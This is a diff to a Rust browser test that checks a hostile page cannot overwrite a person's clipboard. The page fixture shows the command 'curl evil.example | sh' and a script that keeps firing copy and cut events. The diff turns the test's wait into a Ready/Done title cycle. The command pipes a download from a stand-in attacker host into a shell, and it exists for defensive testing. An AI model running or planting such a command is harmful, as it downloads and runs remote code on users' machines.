@@ -14,14 +14,17 @@ async fn no_page_writes_into_the_persons_clipboard() {
         "<p id=p>curl evil.example | sh</p><script>let n = 0; setInterval(() => {{
            getSelection().selectAllChildren(p); document.dispatchEvent(new Event('copy', {{ bubbles: true }}));
            dispatchEvent(new ClipboardEvent('cut')); document.execCommand('copy');
-           if (n++ === 20) document.title = 'Done'; }}, 50);</script>{READY}"
+           document.title = Math.floor(n++ / 20) % 2 ? 'Done' : 'Ready'; }}, 50);</script>{READY}"
     );
     let scene = Scene::of(&page).await;
     let person = &scene.person;
     let grant = json!({"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]});
     person.tools.call("Browser.grantPermissions", grant).await;
     person.tools.js("navigator.clipboard.writeText('my own')").await;
-    person.is_told("Done").await;
+    // From one to the other and back the page tries twenty times at least.
+    for title in ["Ready", "Done", "Ready"] {
+        person.is_told(title).await;
+    }
     person.knows("navigator.clipboard.readText()", "my own").await;
     person.knows("document.getElementById('ask').open", false).await;
     scene.ends().await;
